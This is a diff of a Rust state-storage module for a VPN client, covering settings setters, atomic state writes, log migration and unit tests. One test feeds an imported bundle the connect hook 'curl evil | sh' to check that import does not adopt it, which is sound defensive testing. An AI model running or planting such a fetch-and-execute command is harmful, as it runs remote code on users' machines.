+    state.on_suspend = action;
+    save_state_file(&self.data_dir(), &state)?;
+    Ok(())
+  }
+
+  pub fn set_network_change_action(&self, action: NetworkChangeAction) -> Result<(), StorageError> {
+    let mut state = self.state.lock().expect("lock");
+    state.on_network_change = action;
+    save_state_file(&self.data_dir(), &state)?;
+    Ok(())
+  }
+
+  pub fn set_extra_env_keys(&self, keys: Vec<String>) -> Result<(), StorageError> {
+    let mut state = self.state.lock().expect("lock");
+    state.extra_env_keys = keys;
+    save_state_file(&self.data_dir(), &state)?;
+    Ok(())
+  }
+
+  pub fn set_app_in_terminal(&self, app_id: &str, in_terminal: bool) -> Result<(), StorageError> {
+    let mut state = self.state.lock().expect("lock");
+    let app = state
+      .apps
+      .iter_mut()
+      .find(|app| app.id == app_id)
+      .ok_or(StorageError::AppNotFound)?;
+    app.in_terminal = in_terminal;
+    save_state_file(&self.data_dir(), &state)?;
+    Ok(())
+  }
+
+  pub fn set_app_kill_signal(&self, app_id: &str, signal: KillSignal) -> Result<(), StorageError> {
+    let mut state = self.state.lock().expect("lock");
+    let app = state
+      .apps
+      .iter_mut()
+      .find(|app| app.id == app_id)
+      .ok_or(StorageError::AppNotFound)?;
+    app.kill_signal = signal;
+    save_state_file(&self.data_dir(), &state)?;
+    Ok(())
+  }
+
+  pub fn set_app_limits(&self, app_id: &str, limits: AppLimits) -> Result<(), StorageError> {
+    let mut state = self.state.lock().expect("lock");
+    let app = state
+      .apps
+      .iter_mut()
+      .find(|app| app.id == app_id)
+      .ok_or(StorageError::AppNotFound)?;
+    app.limits = limits;
+    save_state_file(&self.data_dir(), &state)?;
+    Ok(())
+  }
+
+  pub fn set_app_capture_output(&self, app_id: &str, capture: bool) -> Result<(), StorageError> {
+    let mut state = self.state.lock().expect("lock");
+    let app = state
+      .apps
+      .iter_mut()
+      .find(|app| app.id == app_id)
+      .ok_or(StorageError::AppNotFound)?;
+    app.capture_output = capture;
+    save_state_file(&self.data_dir(), &state)?;
+    Ok(())
+  }
+
+  pub fn set_terminal(&self, terminal: Option<String>) -> Result<(), StorageError> {
+    let mut state = self.state.lock().expect("lock");
+    state.terminal = terminal;
+    save_state_file(&self.data_dir(), &state)?;
+    Ok(())
+  }
+
+  pub fn set_vpn_hooks(
+    &self,
+    on_connect_cmd: Option<String>,
+    on_disconnect_cmd: Option<String>,
+  ) -> Result<(), StorageError> {
+    let mut state = self.state.lock().expect("lock");
+    state.on_connect_cmd = on_connect_cmd;
+    state.on_disconnect_cmd = on_disconnect_cmd;
+    save_state_file(&self.data_dir(), &state)?;
+    Ok(())
+  }
+
+  pub fn set_privileged_debug(&self, enabled: bool) -> Result<(), StorageError> {
+    let mut state = self.state.lock().expect("lock");
+    state.privileged_debug = enabled;
+    save_state_file(&self.data_dir(), &state)?;
+    Ok(())
+  }
+
+  pub fn set_app_log_rotation(&self, limit_kib: u64, compress: bool) -> Result<(), StorageError> {
+    let mut state = self.state.lock().expect("lock");
+    state.app_log_limit_kib = limit_kib;
+    state.compress_app_logs = compress;
+    save_state_file(&self.data_dir(), &state)?;
+    Ok(())
+  }
+
+  pub fn set_app_output_limit(&self, limit_kib: u64) -> Result<(), StorageError> {
+    let mut state = self.state.lock().expect("lock");
+    state.app_output_limit_kib = limit_kib;
+    save_state_file(&self.data_dir(), &state)?;
+    Ok(())
+  }
+
+  pub fn set_bandwidth_limit(&self, limit_mbps: Option<u32>) -> Result<(), StorageError> {
+    let mut state = self.state.lock().expect("lock");
+    state.bandwidth_limit_mbps = limit_mbps;
+    save_state_file(&self.data_dir(), &state)?;
+    Ok(())
+  }
+
+  pub fn set_randomize_subnet(&self, enabled: bool) -> Result<(), StorageError> {
+    let mut state = self.state.lock().expect("lock");
+    state.randomize_subnet = enabled;
+    save_state_file(&self.data_dir(), &state)?;
+    Ok(())
+  }
+
+  pub fn set_kill_apps_on_disable(&self, enabled: bool) -> Result<(), StorageError> {
+    let mut state = self.state.lock().expect("lock");
+    state.kill_apps_on_disable = enabled;
+    save_state_file(&self.data_dir(), &state)?;
+    Ok(())
+  }
+
+  pub fn set_config_via_stdin(&self, enabled: bool) -> Result<(), StorageError> {
+    let mut state = self.state.lock().expect("lock");
+    state.config_via_stdin = enabled;
+    save_state_file(&self.data_dir(), &state)?;
     Ok(())
   }
 
   pub fn set_last_tunnel_id(&self, tunnel_id: &str) -> Result<(), StorageError> {
     let mut state = self.state.lock().expect("lock");
     state.last_tunnel_id = Some(tunnel_id.to_string());
-    save_state_file(&self.data_dir, &state)?;
+    save_state_file(&self.data_dir(), &state)?;
     Ok(())
   }
 
   pub fn set_last_app_id(&self, app_id: &str) -> Result<(), StorageError> {
     let mut state = self.state.lock().expect("lock");
     state.last_app_id = Some(app_id.to_string());
-    save_state_file(&self.data_dir, &state)?;
+    save_state_file(&self.data_dir(), &state)?;
     Ok(())
   }
 
@@ -156,6 +1180,83 @@ impl AppStateStore {
   }
 }
 
+fn disk_size(path: &Path) -> u64 {
+  let Ok(meta) = fs::symlink_metadata(path) else {
+    return 0;
+  };
+  if !meta.is_dir() {
+    return meta.len();
+  }
+  fs::read_dir(path)
+    .map(|entries| entries.flatten().map(|entry| disk_size(&entry.path())).sum())
+    .unwrap_or(0)
+}
+
+fn default_data_dir() -> PathBuf {
+  config_dir()
+    .unwrap_or_else(|| PathBuf::from("/tmp"))
+    .join(APP_DIR)
+}
+
+fn read_data_dir_pointer(default_dir: &Path) -> Option<PathBuf> {
+  let content = fs::read_to_string(default_dir.join(DATA_DIR_POINTER)).ok()?;
+  let path = PathBuf::from(content.trim());
+  if path.is_absolute() && path.is_dir() {
+    Some(path)
+  } else {
+    None
+  }
+}
+
+fn is_log_file(name: &str) -> bool {
+  name == LOG_FILE || name.strip_prefix(LOG_FILE).is_some_and(|rest| rest.starts_with('.'))
+}
+
+fn copy_logs(from: &Path, to: &Path) -> Result<(), StorageError> {
+  for entry in fs::read_dir(from)?.flatten() {
+    if entry.file_name().to_str().is_some_and(is_log_file) {
+      fs::copy(entry.path(), to.join(entry.file_name()))?;
+    }
+  }
+  let app_logs = from.join(APP_LOG_DIR);
+  if app_logs.is_dir() {
+    let dest = to.join(APP_LOG_DIR);
+    fs::create_dir_all(&dest)?;
+    fs::set_permissions(&dest, fs::Permissions::from_mode(0o700))?;
+    for entry in fs::read_dir(&app_logs)?.flatten() {
+      if entry.file_type().is_ok_and(|kind| kind.is_file()) {
+        fs::copy(entry.path(), dest.join(entry.file_name()))?;
+      }
+    }
+  }
+  Ok(())
+}
+
+fn remove_logs(dir: &Path) {
+  if let Ok(entries) = fs::read_dir(dir) {
+    for entry in entries.flatten() {
+      if entry.file_name().to_str().is_some_and(is_log_file) {
+        let _ = fs::remove_file(entry.path());
+      }
+    }
+  }
+  let _ = fs::remove_dir_all(dir.join(APP_LOG_DIR));
+}
+
+fn write_data_dir_pointer(target: &Path) -> Result<(), StorageError> {
+  let default_dir = default_data_dir();
+  let pointer = default_dir.join(DATA_DIR_POINTER);
+  if fs::canonicalize(&default_dir).ok().as_deref() == Some(target) {
+    if pointer.exists() {
+      fs::remove_file(pointer)?;
+    }
+    return Ok(());
+  }
+  fs::create_dir_all(&default_dir)?;
+  fs::write(pointer, target.to_string_lossy().as_bytes())?;
+  Ok(())
+}
+
 fn load_state_file(data_dir: &Path) -> Result<AppStateFile, StorageError> {
   let path = data_dir.join(STATE_FILE);
   if !path.exists() {
@@ -170,15 +1271,200 @@ fn load_state_file(data_dir: &Path) -> Result<AppStateFile, StorageError> {
 fn save_state_file(data_dir: &Path, state: &AppStateFile) -> Result<(), StorageError> {
   fs::create_dir_all(data_dir)?;
   let path = data_dir.join(STATE_FILE);
+  let temp = data_dir.join(format!("{STATE_FILE}.tmp"));
   let payload = serde_json::to_string_pretty(state)?;
-  let mut file = fs::File::create(path)?;
-  file.write_all(payload.as_bytes())?;
+  let written = write_state_temp(&temp, payload.as_bytes()).and_then(|_| fs::rename(&temp, &path));
+  if let Err(err) = written {
+    let _ = fs::remove_file(&temp);
+    return Err(err.into());
+  }
   Ok(())
 }
 
+fn write_state_temp(temp: &Path, payload: &[u8]) -> io::Result<()> {
+  let mut file = fs::OpenOptions::new()
+    .write(true)
+    .create(true)
+    .truncate(true)
+    .mode(0o600)
+    .open(temp)?;
+  file.write_all(payload)?;
+  file.sync_all()
+}
+
+fn divergence(data_dir: &Path, state: &AppStateFile) -> Result<Vec<String>, StorageError> {
+  let disk = load_state_file(data_dir)?;
+  let mut differences = Vec::new();
+  diff_values(
+    "",
+    &serde_json::to_value(state)?,
+    &serde_json::to_value(&disk)?,
+    &mut differences,
+  );
+  Ok(differences)
+}
+
+fn diff_values(
+  path: &str,
+  memory: &serde_json::Value,
+  disk: &serde_json::Value,
+  out: &mut Vec<String>,
+) {
+  use serde_json::Value;
+  match (memory, disk) {
+    (Value::Object(memory), Value::Object(disk)) => {
+      let mut keys: Vec<&String> = memory.keys().chain(disk.keys()).collect();
+      keys.sort();
+      keys.dedup();
+      for key in keys {
+        let child = if path.is_empty() {
+          key.to_string()
+        } else {
+          format!("{path}.{key}")
+        };
+        diff_values(
+          &child,
+          memory.get(key).unwrap_or(&Value::Null),
+          disk.get(key).unwrap_or(&Value::Null),
+          out,
+        );
+      }
+    }
+    (Value::Array(memory), Value::Array(disk))
+      if memory.iter().chain(disk).all(|item| item.get("id").is_some()) =>
+    {
+      let ids = |items: &[Value]| -> Vec<String> {
+        items.iter().map(|item| item["id"].to_string()).collect()
+      };
+      if ids(memory) != ids(disk) {
+        out.push(format!("{path}: order or membership differs"));
+      }
+      for item in memory {
+        if let Some(other) = disk.iter().find(|other| other["id"] == item["id"]) {
+          let id = item["id"].as_str().unwrap_or_default();
+          diff_values(&format!("{path}[{id}]"), item, other, out);
+        }
+      }
+    }
+    _ if memory != disk => out.push(format!("{path}: memory {memory} != disk {disk}")),
+    _ => {}
+  }
+}
+
+fn normalize_note(note: String) -> Option<String> {
+  let trimmed = note.trim();
+  if trimmed.is_empty() {
+    None
+  } else {
+    Some(trimmed.to_string())
+  }
+}
+
 fn set_private_permissions(path: &Path) -> Result<(), StorageError> {
   let mut perms = fs::metadata(path)?.permissions();
   perms.set_mode(0o600);
   fs::set_permissions(path, perms)?;
   Ok(())
 }
+
+#[cfg(test)]
+mod tests {
+  use super::*;
+  use crate::test_util::temp_dir;
+
+  #[test]
+  fn interrupted_state_write_keeps_previous_state() {
+    let dir = temp_dir("storage");
+    let previous = AppStateFile {
+      last_tunnel_id: Some("previous".to_string()),
+      ..AppStateFile::default()
+    };
+    save_state_file(&dir, &previous).unwrap();
+
+    let next = AppStateFile {
+      last_tunnel_id: Some("next".to_string()),
+      ..AppStateFile::default()
+    };
+    let payload = serde_json::to_string_pretty(&next).unwrap();
+    let temp = dir.join(format!("{STATE_FILE}.tmp"));
+    write_state_temp(&temp, &payload.as_bytes()[..payload.len() / 2]).unwrap();
+    assert!(fs::rename(&temp, dir.join("missing").join(STATE_FILE)).is_err());
+
+    let loaded = load_state_file(&dir).unwrap();
+    assert_eq!(loaded.last_tunnel_id.as_deref(), Some("previous"));
+    assert_eq!(fs::metadata(&temp).unwrap().permissions().mode() & 0o777, 0o600);
+
+    save_state_file(&dir, &next).unwrap();
+    assert!(!temp.exists());
+    assert_eq!(load_state_file(&dir).unwrap().last_tunnel_id.as_deref(), Some("next"));
+    fs::remove_dir_all(&dir).unwrap();
+  }
+
+  #[test]
+  fn bundle_import_keeps_hooks_and_restores_settings_only_on_request() {
+    let dir = temp_dir("import");
+    let store = AppStateStore {
+      state: Mutex::new(AppStateFile {
+        on_connect_cmd: Some("notify-send up".to_string()),
+        ..AppStateFile::default()
+      }),
+      data_dir: RwLock::new(dir.clone()),
+      app_pids: Mutex::new(HashMap::new()),
+      probes: Mutex::new(Vec::new()),
+      latency_stop: Mutex::new(None),
+      app_output: Mutex::new(HashMap::new()),
+      nat_check: Mutex::new(None),
+    };
+    let bundle = || StateBundle {
+      format: "sillyvpn".to_string(),
+      version: 1,
+      state: AppStateFile {
+        on_connect_cmd: Some("curl evil | sh".to_string()),
+        terminal: Some("xterm".to_string()),
+        ..AppStateFile::default()
+      },
+      configs: HashMap::new(),
+    };
+
+    let summary = store.import_bundle(bundle(), false).unwrap();
+    assert_eq!(summary.skipped_on_connect_cmd.as_deref(), Some("curl evil | sh"));
+    assert_eq!(store.state_snapshot().terminal, None);
+
+    let summary = store.import_bundle(bundle(), true).unwrap();
+    assert!(summary.settings_restored);
+    let state = store.state_snapshot();
+    assert_eq!(state.terminal.as_deref(), Some("xterm"));
+    assert_eq!(state.on_connect_cmd.as_deref(), Some("notify-send up"));
+    fs::remove_dir_all(&dir).unwrap();
+  }
+
+  #[test]
+  fn migration_moves_app_log_generations_and_per_app_logs() {
+    let from = temp_dir("migrate-from");
+    let to = temp_dir("migrate-to");
+    for name in [LOG_FILE, "app.log.1", "app.log.5", "tunnel.conf", "app.logs"] {
+      fs::write(from.join(name), name).unwrap();
+    }
+    fs::create_dir_all(from.join(APP_LOG_DIR)).unwrap();
+    fs::write(from.join(APP_LOG_DIR).join("firefox.log"), "live").unwrap();
+    fs::write(from.join(APP_LOG_DIR).join("firefox.log.1.gz"), "old").unwrap();
+
+    copy_logs(&from, &to).unwrap();
+    for name in [LOG_FILE, "app.log.1", "app.log.5"] {
+      assert_eq!(fs::read_to_string(to.join(name)).unwrap(), name);
+    }
+    assert!(!to.join("tunnel.conf").exists() && !to.join("app.logs").exists());
+    assert_eq!(fs::read_to_string(to.join(APP_LOG_DIR).join("firefox.log.1.gz")).unwrap(), "old");
+    assert_eq!(fs::metadata(to.join(APP_LOG_DIR)).unwrap().permissions().mode() & 0o777, 0o700);
+
+    remove_logs(&from);
+    let mut left: Vec<_> = fs::read_dir(&from)
+      .unwrap()
+      .map(|entry| entry.unwrap().file_name().to_string_lossy().to_string())
+      .collect();
+    left.sort();
+    assert_eq!(left, ["app.logs", "tunnel.conf"]);
+    fs::remove_dir_all(&from).unwrap();
+    fs::remove_dir_all(&to).unwrap();
+  }
+}